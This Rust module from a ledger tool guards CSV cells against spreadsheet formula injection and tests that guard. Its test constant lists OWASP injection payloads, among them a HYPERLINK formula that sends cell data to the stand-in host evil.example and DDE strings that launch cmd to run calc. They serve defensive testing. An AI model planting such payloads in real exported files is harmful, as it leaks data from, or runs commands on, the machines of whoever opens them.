//! Spreadsheet formula injection (OWASP "CSV injection"): the one guard every
//! CSV fundledger writes applies to its text cells — the audit trail, the
//! reconciliation report, the balance list. A cell an officer opens in Excel
//! must never run as a formula, whatever a bureau's file put in a voucher
//! number, a document number or a project name.

use std::borrow::Cow;
use std::io::{self, Write};

/// A text cell starting with `=`, `+`, `-`, `@`, tab or CR is prefixed with
/// `'`, so a spreadsheet shows it as text. Amount cells never pass through
/// here: `-5000.00` must stay a number.
pub(crate) fn guard_cell(text: &str) -> Cow<'_, str> {
    match text.chars().next() {
        Some('=' | '+' | '-' | '@' | '\t' | '\r') => Cow::Owned(format!("'{text}")),
        _ => Cow::Borrowed(text),
    }
}

/// Guards every cell of a record except the amount columns (by index).
pub fn guard_record<S: AsRef<str>>(cells: &[S], amount_columns: &[usize]) -> Vec<String> {
    cells
        .iter()
        .enumerate()
        .map(|(i, c)| {
            if amount_columns.contains(&i) {
                c.as_ref().to_string()
            } else {
                guard_cell(c.as_ref()).into_owned()
            }
        })
        .collect()
}

/// The CSV writer's buffer: what it hands its output at a time.
const CSV_BUFFER_BYTES: usize = 256 * 1024;

/// How a CSV document ends its lines.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum LineEnd {
    /// `\n`: the reconcile and balance documents (SPEC §5).
    Lf,
    /// `\r\n`: the audit trail (RFC 4180, for Excel).
    CrLf,
}

/// The one CSV writer of every CSV fundledger writes: the header as given,
/// then records whose cells pass [`guard_cell`], except the `verbatim`
/// columns (amounts, counts, dates, hashes fundledger renders itself), which
/// are written as they are so `-5000.00` stays a number.
pub(crate) struct GuardedCsv<W: Write> {
    csv: csv::Writer<W>,
    verbatim: &'static [usize],
}

impl<W: Write> GuardedCsv<W> {
    pub(crate) fn new(
        out: W,
        line_end: LineEnd,
        header: &[&str],
        verbatim: &'static [usize],
    ) -> io::Result<GuardedCsv<W>> {
        let terminator = match line_end {
            LineEnd::Lf => csv::Terminator::Any(b'\n'),
            LineEnd::CrLf => csv::Terminator::CRLF,
        };
        // Larger than csv's 8 KB default: the trail is gigabytes, written
        // through a hashing writer and a file in these pieces.
        let mut csv = csv::WriterBuilder::new()
            .terminator(terminator)
            .buffer_capacity(CSV_BUFFER_BYTES)
            .from_writer(out);
        csv.write_record(header)?;
        Ok(GuardedCsv { csv, verbatim })
    }

    pub(crate) fn write_record<S: AsRef<str>>(&mut self, cells: &[S]) -> io::Result<()> {
        Ok(self.csv.write_record(guard_record(cells, self.verbatim))?)
    }

    /// [`GuardedCsv::write_record`] of borrowed cells, each guarded in
    /// place: no `String` per cell (the trail writes 21 per posting).
    pub(crate) fn write_cells(&mut self, cells: &[&str]) -> io::Result<()> {
        for (i, cell) in cells.iter().enumerate() {
            match self.verbatim.contains(&i) {
                true => self.csv.write_field(cell)?,
                false => match guard_cell(cell) {
                    Cow::Borrowed(cell) => self.csv.write_field(cell)?,
                    Cow::Owned(guarded) => self.csv.write_field(guarded)?,
                },
            }
        }
        // An empty record only ends the one the fields above began.
        Ok(self.csv.write_record(None::<&[u8]>)?)
    }

    /// Flushes and hands back the output.
    pub(crate) fn into_inner(self) -> io::Result<W> {
        self.csv.into_inner().map_err(|e| e.into_error())
    }
}

/// A small CSV document in memory, `\n` line ends, no BOM.
pub fn csv_to_string<R: AsRef<[S]>, S: AsRef<str>>(
    header: &[&str],
    rows: impl IntoIterator<Item = R>,
    verbatim: &'static [usize],
) -> String {
    let mut w =
        GuardedCsv::new(Vec::new(), LineEnd::Lf, header, verbatim).expect("write to memory");
    for row in rows {
        w.write_record(row.as_ref()).expect("write to memory");
    }
    String::from_utf8(w.into_inner().expect("flush to memory"))
        .expect("CSV of UTF-8 strings is UTF-8")
}

/// The OWASP CSV-injection payloads (and the prefixes they rely on), for
/// every writer's tests.
pub const OWASP_PAYLOADS: [&str; 10] = [
    "=2+3",
    "=EVIL〔2021〕1号",
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
    "=cmd|' /C calc'!A0",
    "+2+3",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
    "=1+2\";=1+2",
];

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn guards_every_owasp_payload_and_nothing_else() {
        let check = |input: &str, want: &str| assert_eq!(guard_cell(input), want, "{input:?}");
        for p in OWASP_PAYLOADS {
            check(p, &format!("'{p}"));
        }
        check("粤财社〔2021〕12号", "粤财社〔2021〕12号");
        check("GZ21032001", "GZ21032001");
        check("'=1", "'=1");
        check(" =1", " =1");
        check("", "");
    }

    #[test]
    fn amount_columns_are_never_altered() {
        let got = guard_record(&["-5000.00", "=1+2", "-1"], &[0]);
        assert_eq!(got, ["-5000.00", "'=1+2", "'-1"]);
    }
}
